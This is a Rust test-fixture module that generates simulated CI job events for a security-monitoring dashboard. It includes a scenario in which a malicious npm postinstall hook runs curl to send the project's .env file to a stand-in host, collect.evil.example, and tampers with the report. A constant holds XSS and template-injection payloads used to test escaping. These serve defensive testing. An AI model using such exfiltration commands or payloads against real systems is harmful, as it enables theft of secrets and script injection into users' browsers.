//! Records that fill every page of the dashboard.

use std::net::IpAddr;
use std::time::SystemTime;

use runward_event::{
    Act, AttributionVar, Body, Connect, ConnectClose, ConnectOutcome, ConnectionId, Event,
    FORMAT_VERSION, FileChange, JobContext, JobEnd, JobIdentity, JobStart, MemoryAccess, MemoryWay,
    Mode, PolicyRule, ProcessExec, ProcessExit, ProcessId, Protocol, Provider, Reason, Status,
    Tamper, Tier, Time, write_line,
};

/// Text that would act in a browser that took it for anything else than text.
const HOSTILE: &str =
    "\"'><img src=x onerror=attacked=1><script>attacked=1;alert(1)</script>\u{202e}gnp.exe{{7*7}}";
const SECOND: u64 = 1_000_000_000;

/// The record of one job, as it grows.
pub(crate) struct Job {
    events: Vec<Event>,
    now: u64,
    connections: u64,
}

impl Job {
    /// A job that began so many seconds ago.
    pub(crate) fn begun(start: JobStart, seconds_ago: u64) -> Job {
        let now = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH);
        let now = now.unwrap().as_secs() - seconds_ago;
        let mut job = Job {
            events: Vec::new(),
            now: now * SECOND,
            connections: 0,
        };
        job.push(Body::JobStart(Box::new(start)));
        job
    }

    fn push(&mut self, body: Body) {
        self.now += SECOND / 20;
        self.events.push(Event {
            seq: self.events.len() as u64 + 1,
            time: Time::from_unix_nanos(self.now),
            body,
        });
    }

    /// The job waits.
    fn idle(&mut self, seconds: u64) {
        self.now += seconds * SECOND;
    }

    pub(crate) fn exec(&mut self, process: u64, parent: Option<u64>, args: &[&str]) {
        self.exec_for(process, parent, args, &[]);
    }

    pub(crate) fn exec_for(
        &mut self,
        process: u64,
        parent: Option<u64>,
        args: &[&str],
        env: &[(AttributionVar, &str)],
    ) {
        let program = format!("/usr/bin/{}", args[0]);
        self.push(Body::ProcessExec(Box::new(ProcessExec {
            process: ProcessId(process),
            pid: pid(process),
            parent: parent.map(ProcessId),
            ppid: parent.map_or(1, pid),
            exe: program.clone(),
            path: program,
            args: args.iter().map(ToString::to_string).collect(),
            cwd: "/builds/app".to_owned(),
            uid: 1000,
            gid: 1000,
            cgroup: String::new(),
            container: None,
            env: env.iter().map(|(k, v)| (*k, (*v).to_owned())).collect(),
            facts: runward_event::ExecFacts::default(),
            truncated: Vec::new(),
            raw: Default::default(),
        })));
    }

    fn exit(&mut self, process: u64, code: i32) {
        self.push(Body::ProcessExit(ProcessExit {
            process: ProcessId(process),
            pid: pid(process),
            code: Some(code),
            signal: None,
        }));
    }

    /// A connection; one with a reason is stopped.
    pub(crate) fn connect(&mut self, process: u64, name: &str, reason: Option<Reason>) {
        self.connections += 1;
        let connection = ConnectionId(self.connections);
        let last = (self.connections % 200) as u8 + 1;
        self.push(Body::Connect(Connect {
            connection,
            process: ProcessId(process),
            pid: pid(process),
            protocol: Protocol::Tcp,
            ip: IpAddr::from([198, 51, 100, last]),
            port: 443,
            name: Some(name.to_owned()),
            status: if reason.is_some() {
                Status::Blocked
            } else {
                Status::Allowed
            },
            reason,
            rule: reason.is_none().then_some(1),
            listed: None,
            v4_mapped: false,
        }));
        if reason.is_none() {
            self.push(Body::ConnectClose(ConnectClose {
                connection,
                process: ProcessId(process),
                outcome: ConnectOutcome::Established,
                bytes_sent: 1200 * self.connections,
                bytes_received: 348_000 * self.connections,
                duration_ns: SECOND / 3,
                opaque: false,
            }));
        }
    }

    pub(crate) fn write(&mut self, process: u64, path: &str, tracked: bool) {
        let hash = |digit: &str| tracked.then(|| digit.repeat(40));
        self.push(Body::FileWrite(Box::new(FileChange {
            process: Some(ProcessId(process)),
            pid: pid(process),
            path: path.to_owned(),
            from: None,
            tracked,
            hash_before: hash("a"),
            hash_after: hash("b"),
            found_at_end: false,
            diff: None,
            no_diff: None,
            mount: None,
            raw: Default::default(),
        })));
    }

    /// A process reads the memory of the CI runner.
    pub(crate) fn read_runner(&mut self, process: u64) {
        self.push(Body::MemoryAccess(Box::new(MemoryAccess {
            process: ProcessId(process),
            pid: pid(process),
            target: None,
            target_pid: 77,
            target_exe: "Runner.Worker".to_owned(),
            way: MemoryWay::Mem,
            prevented: false,
            killed: false,
            raw: Default::default(),
        })));
    }

    pub(crate) fn end(&mut self, exit_code: i32) {
        self.push(Body::JobEnd(JobEnd {
            exit_code,
            signal: None,
            duration_ns: 74 * SECOND,
            still_running: 0,
            unrecorded_file_changes: 3,
            notes: Vec::new(),
        }));
    }

    pub(crate) fn len(&self) -> usize {
        self.events.len()
    }

    /// The events from one number to another, as they are sent.
    pub(crate) fn packed(&self, first: usize, last: usize) -> Vec<u8> {
        let mut lines = Vec::new();
        for event in &self.events[first - 1..last] {
            write_line(&mut lines, event).unwrap();
        }
        zstd::encode_all(lines.as_slice(), 1).unwrap()
    }
}

fn pid(process: u64) -> u32 {
    u32::try_from(process).unwrap() + 4000
}

pub(crate) fn start(project: &str, job: &str, branch: &str) -> JobStart {
    JobStart {
        format: FORMAT_VERSION,
        runward: "0.1.0".to_owned(),
        identity: JobIdentity {
            provider: Provider::Github,
            project: Some(project.to_owned()),
            pipeline: Some(".github/workflows/ci.yml".to_owned()),
            job: Some(job.to_owned()),
            run: Some("9120443518".to_owned()),
            attempt: Some(1),
            branch: Some(branch.to_owned()),
            commit: Some("3f9c1d7a".repeat(5)),
            actor: Some("mira".to_owned()),
            trigger: Some("push".to_owned()),
            url: Some(format!(
                "https://github.example/{project}/actions/runs/9120443518"
            )),
        },
        context: JobContext::default(),
        args: ["npm", "run", "ci"].map(str::to_owned).to_vec(),
        cwd: "/builds/app".to_owned(),
        workspace: "/builds/app".to_owned(),
        tracked_files: Some(412),
        files_watched: true,
        requested_mode: Mode::Block,
        effective_mode: Mode::Block,
        tier: Tier::A,
        kernel: "6.8.0-45-generic".to_owned(),
        lockdown: Vec::new(),
        policy: vec![PolicyRule {
            rule: 1,
            denies: false,
            text: "registry.npmjs.example:443".to_owned(),
            source: ".runward.yml:4".to_owned(),
        }],
        block_lists: Vec::new(),
        resolvers: Vec::new(),
        rules: None,
        notes: Vec::new(),
        raw: Default::default(),
    }
}

/// A build in which a package does what it should not.
pub(crate) fn attacked(seconds_ago: u64) -> Job {
    let mut job = Job::begun(start("shop/web", "build", "main"), seconds_ago);
    job.exec(1, None, &["npm", "run", "ci"]);
    job.exec(2, Some(1), &["sh", "-c", "npm ci && npm test"]);
    job.exec(
        3,
        Some(2),
        &["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "ci"],
    );
    for name in [
        "registry.npmjs.example",
        "registry.npmjs.example",
        "objects.github.example",
    ] {
        job.connect(3, name, None);
    }
    let package = [
        (AttributionVar::NpmPackageName, "left-padding"),
        (AttributionVar::NpmPackageVersion, "1.3.1"),
        (AttributionVar::NpmLifecycleEvent, "postinstall"),
        (
            AttributionVar::NpmPackageJson,
            "/builds/app/node_modules/left-padding/package.json",
        ),
    ];
    job.exec_for(4, Some(3), &["sh", "-c", "node install.js"], &package);
    job.exec_for(5, Some(4), &["node", "install.js"], &package);
    job.exec_for(
        6,
        Some(5),
        &[
            "curl",
            "--silent",
            "--data",
            "@/builds/app/.env",
            "https://collect.evil.example/in",
        ],
        &package,
    );
    job.connect(6, "collect.evil.example", Some(Reason::NotAllowed));
    job.exit(6, 7);
    job.write(5, "src/checkout/payment.ts", true);
    job.idle(20);
    job.exec(
        7,
        Some(2),
        &["node", "node_modules/.bin/vitest", "run", "--coverage"],
    );
    for number in 0..12 {
        let report = format!("coverage/part-{number}.json");
        job.write(7, &report, false);
    }
    job.push(Body::Tamper(Box::new(Tamper {
        process: ProcessId(5),
        pid: pid(5),
        act: Act::Report,
        target: Some("runward-report/events.jsonl".to_owned()),
        prevented: true,
        killed: false,
        raw: Default::default(),
    })));
    job.exit(7, 0);
    job.exit(2, 0);
    job.exit(1, 0);
    job.end(0);
    job
}

/// A job of which nothing is remarkable.
pub(crate) fn quiet(number: u64) -> Job {
    let projects = ["shop/web", "shop/api", "platform/images"];
    let project = projects[usize::try_from(number).unwrap() % projects.len()];
    let branch = if number.is_multiple_of(4) {
        "release/2026.11"
    } else {
        "main"
    };
    let mut job = Job::begun(start(project, "test", branch), 600 + number * 7200);
    job.exec(1, None, &["npm", "test"]);
    job.connect(1, "registry.npmjs.example", None);
    job.connect(1, &format!("shard{number}.storage.example"), None);
    job.exit(1, 0);
    job.end(0);
    job
}

/// A job that writes what would act into every field that it can.
pub(crate) fn hostile(seconds_ago: u64) -> Job {
    let long = format!("{HOSTILE}{}", "W".repeat(3000));
    let mut start = start(HOSTILE, HOSTILE, HOSTILE);
    let identity = &mut start.identity;
    identity.pipeline = Some(long.clone());
    identity.commit = Some(HOSTILE.to_owned());
    identity.actor = Some(long.clone());
    identity.trigger = Some(HOSTILE.to_owned());
    identity.url = Some("javascript:attacked=1".to_owned());
    start.args = vec![HOSTILE.to_owned(), long.clone()];
    start.cwd = long.clone();
    start.workspace = HOSTILE.to_owned();
    start.kernel = HOSTILE.to_owned();
    start.runward = HOSTILE.to_owned();
    start.notes = vec![long.clone()];
    start.policy = vec![PolicyRule {
        rule: 1,
        denies: true,
        text: long.clone(),
        source: HOSTILE.to_owned(),
    }];
    let mut job = Job::begun(start, seconds_ago);
    job.exec(1, None, &[HOSTILE, &long]);
    job.exec_for(
        2,
        Some(1),
        &[&long, HOSTILE, "\u{1b}]0;x\u{7}\r\n"],
        &[
            (AttributionVar::NpmPackageName, HOSTILE),
            (AttributionVar::NpmPackageVersion, &long),
            (AttributionVar::NpmLifecycleEvent, "postinstall"),
            (AttributionVar::GithubAction, HOSTILE),
        ],
    );
    job.connect(2, HOSTILE, Some(Reason::NotAllowed));
    job.connect(2, &format!("{}.example", "w".repeat(240)), None);
    job.write(2, &long, true);
    job.write(2, HOSTILE, false);
    job.end(1);
    job
}

/// A job of many processes: each hundred of them below one shell.
pub(crate) fn crowded(processes: u64) -> Job {
    let mut job = Job::begun(start("platform/images", "compile", "main"), 3600);
    job.exec(1, None, &["make", "-j16"]);
    for process in 2..=processes {
        let shell = process - (process - 2) % 100;
        if process == shell {
            let folder = format!("cd part{} && make", process / 100);
            job.exec(process, Some(1), &["sh", "-c", &folder]);
        } else {
            let file = format!("src/unit{process}.c");
            job.exec(process, Some(shell), &["cc", "-O2", "-c", &file]);
        }
    }
    job.end(0);
    job
}

/// A job that still runs: what has come so far, and what comes later, one batch after the other.
pub(crate) fn growing() -> Job {
    let mut job = Job::begun(start("shop/api", "deploy", "main"), 5);
    job.exec(1, None, &["deploy", "--to", "staging"]);
    for number in 1..=4 {
        job.connect(1, &format!("step{number}.live.example"), None);
    }
    job.exit(1, 0);
    job.end(0);
    job
}
